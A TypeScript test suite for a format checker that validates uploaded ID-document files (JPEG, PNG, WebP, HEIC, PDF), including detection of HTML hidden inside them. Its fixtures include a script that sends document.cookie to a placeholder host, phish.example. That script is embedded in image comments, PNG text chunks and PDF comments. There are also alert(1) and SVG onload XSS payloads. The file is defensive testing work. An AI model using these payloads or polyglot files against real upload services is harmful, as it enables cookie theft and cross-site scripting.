import { crc32 } from 'node:zlib';
import { checkDocumentFormat } from '../../src/intake/id-document-format';
import { browserJpeg, browserWebp, heifImage, smallPdf, smallPng } from '../support/document-samples';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const PAGE = '<html><body><script>fetch("https://phish.example/?" + document.cookie)</script></body></html>';

/** A JPEG segment: marker, then a length that counts itself. */
const segment = (marker: number, payload: Buffer) => Buffer.concat([Buffer.from([0xff, marker, (payload.length + 2) >> 8, (payload.length + 2) & 0xff]), payload]);
const afterSoi = (jpeg: Buffer, inserted: Buffer) => Buffer.concat([jpeg.subarray(0, 2), inserted, jpeg.subarray(2)]);

/** A PNG chunk with its CRC, as an encoder writes it. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([latin1(type), data])));
  return Buffer.concat([length, latin1(type), data, crc]);
}

/** The PNG with IHDR's width and height replaced, its CRC recomputed so only the dimensions are wrong. */
function pngSized(width: number, height: number): Buffer {
  const png = Buffer.from(smallPng());
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

describe('JPEG', () => {
  it('takes a JPEG a browser drew as well formed', () => {
    expect(checkDocumentFormat('image/jpeg', browserJpeg)).toBe('well_formed');
  });

  it('keeps photo metadata (XMP is XML) well formed', () => {
    const xmp = latin1('http://ns.adobe.com/xap/1.0/\0<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description/></rdf:RDF></x:xmpmeta>');
    expect(checkDocumentFormat('image/jpeg', afterSoi(browserJpeg, segment(0xe1, xmp)))).toBe('well_formed');
  });

  it('calls a JPEG header followed by an HTML page malformed', () => {
    expect(checkDocumentFormat('image/jpeg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), latin1(PAGE)]))).toBe('malformed');
  });

  it('calls a JPEG whose frame is 0 pixels wide malformed', () => {
    const frame = segment(0xc0, Buffer.from([8, 0, 10, 0, 0, 1, 1, 0x11, 0]));
    expect(checkDocumentFormat('image/jpeg', Buffer.concat([Buffer.from([0xff, 0xd8]), frame, Buffer.from([0xff, 0xd9])]))).toBe('malformed');
  });

  it('calls a JPEG cut off before its frame header malformed', () => {
    expect(checkDocumentFormat('image/jpeg', browserJpeg.subarray(0, 300))).toBe('malformed');
  });

  it('calls a JPEG with image data before any frame header malformed', () => {
    expect(checkDocumentFormat('image/jpeg', Buffer.concat([Buffer.from([0xff, 0xd8]), segment(0xda, Buffer.alloc(10)), Buffer.from([0xff, 0xd9])]))).toBe('malformed');
  });

  it('finds an HTML page hidden in a comment segment of a real JPEG', () => {
    expect(checkDocumentFormat('image/jpeg', afterSoi(browserJpeg, segment(0xfe, latin1(PAGE))))).toBe('markup');
  });

  it('finds a script appended after the end of a real JPEG', () => {
    expect(checkDocumentFormat('image/jpeg', Buffer.concat([browserJpeg, latin1('<script>alert(1)</script>')]))).toBe('markup');
  });

  it('finds an SVG appended after the end of a real JPEG', () => {
    expect(checkDocumentFormat('image/jpeg', Buffer.concat([browserJpeg, latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')]))).toBe('markup');
  });
});

describe('PNG', () => {
  it('takes an encoded PNG as well formed', () => {
    expect(checkDocumentFormat('image/png', smallPng())).toBe('well_formed');
  });

  it('calls a PNG signature with nothing after it malformed', () => {
    expect(checkDocumentFormat('image/png', smallPng().subarray(0, 8))).toBe('malformed');
  });

  it('calls a PNG whose header CRC is wrong malformed', () => {
    const png = Buffer.from(smallPng());
    png[29] ^= 0xff;
    expect(checkDocumentFormat('image/png', png)).toBe('malformed');
  });

  it('calls a PNG of 0 pixels high malformed', () => {
    expect(checkDocumentFormat('image/png', pngSized(16, 0))).toBe('malformed');
  });

  it('calls a PNG wider than the format allows malformed', () => {
    expect(checkDocumentFormat('image/png', pngSized(2 ** 31, 10))).toBe('malformed');
  });

  it('finds a script in a text chunk', () => {
    const png = smallPng();
    const text = pngChunk('tEXt', latin1(`Comment\0${PAGE}`));
    expect(checkDocumentFormat('image/png', Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]))).toBe('markup');
  });
});

describe('WebP', () => {
  it('takes a WebP a browser drew as well formed', () => {
    expect(checkDocumentFormat('image/webp', browserWebp)).toBe('well_formed');
  });

  it('calls a lossy WebP of 0 pixels wide malformed', () => {
    const frame = Buffer.concat([latin1('VP8 '), Buffer.from([10, 0, 0, 0, 0x30, 0x01, 0x00, 0x9d, 0x01, 0x2a, 0, 0, 10, 0])]);
    const riff = Buffer.concat([latin1('RIFF'), Buffer.from([frame.length + 4, 0, 0, 0]), latin1('WEBP'), frame]);
    expect(checkDocumentFormat('image/webp', riff)).toBe('malformed');
  });

  it('calls RIFF/WEBP with no image chunk malformed', () => {
    const riff = Buffer.concat([latin1('RIFF'), Buffer.from([22, 0, 0, 0]), latin1('WEBPJUNK'), Buffer.alloc(14)]);
    expect(checkDocumentFormat('image/webp', riff)).toBe('malformed');
  });
});

describe('HEIC and HEIF', () => {
  it('takes a HEIC still image with its spatial extent as well formed', () => {
    expect(checkDocumentFormat('image/heic', heifImage())).toBe('well_formed');
  });

  it('takes a HEIF of brand mif1 as well formed', () => {
    expect(checkDocumentFormat('image/heif', heifImage({ brand: 'mif1' }))).toBe('well_formed');
  });

  it('calls an ftyp box alone malformed', () => {
    expect(checkDocumentFormat('image/heic', heifImage().subarray(0, 28))).toBe('malformed');
  });

  it('calls a HEIC without image properties malformed', () => {
    expect(checkDocumentFormat('image/heic', heifImage({ properties: false }))).toBe('malformed');
  });

  it('calls a HEIC of 0 pixels wide malformed', () => {
    expect(checkDocumentFormat('image/heic', heifImage({ width: 0 }))).toBe('malformed');
  });

  it('calls an MP4 that names no HEIF brand malformed', () => {
    expect(checkDocumentFormat('image/heic', heifImage({ brand: 'isom', compatible: ['isom', 'avc1'] }))).toBe('malformed');
  });

  it('calls a HEIC whose box runs past the end malformed', () => {
    expect(checkDocumentFormat('image/heic', heifImage().subarray(0, heifImage().length - 4))).toBe('malformed');
  });

  it('finds a page appended after the last box', () => {
    const page = latin1(PAGE);
    const trailing = Buffer.concat([Buffer.from([0, 0, 0, page.length + 8]), latin1('free'), page]);
    expect(checkDocumentFormat('image/heic', Buffer.concat([heifImage(), trailing]))).toBe('markup');
  });
});

describe('PDF', () => {
  const pdf = smallPdf();

  it('takes a PDF with its cross-reference table as well formed', () => {
    expect(checkDocumentFormat('application/pdf', pdf)).toBe('well_formed');
  });

  it('takes a PDF after a few blank lines a scanner wrote as well formed', () => {
    expect(checkDocumentFormat('application/pdf', Buffer.concat([latin1('\r\n\r\n'), pdf]))).toBe('well_formed');
  });

  it('calls an HTML file with "%PDF-" inside malformed', () => {
    expect(checkDocumentFormat('application/pdf', latin1(`<p>Scan attached</p> %PDF-1.7 ${PAGE}`))).toBe('malformed');
  });

  it('calls a PDF header with no objects and no end malformed', () => {
    expect(checkDocumentFormat('application/pdf', latin1('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'))).toBe('malformed');
  });

  it('calls a PDF cut off before its end marker malformed', () => {
    expect(checkDocumentFormat('application/pdf', pdf.subarray(0, pdf.lastIndexOf('startxref')))).toBe('malformed');
  });

  it('finds an HTML page written into a real PDF', () => {
    const at = pdf.indexOf('\n') + 1;
    expect(checkDocumentFormat('application/pdf', Buffer.concat([pdf.subarray(0, at), latin1(`%${PAGE}\n`), pdf.subarray(at)]))).toBe('markup');
  });
});

it('calls a type it has no reader for malformed', () => {
  expect(checkDocumentFormat('image/gif', latin1('GIF89a\x01\x00\x01\x00'))).toBe('malformed');
});
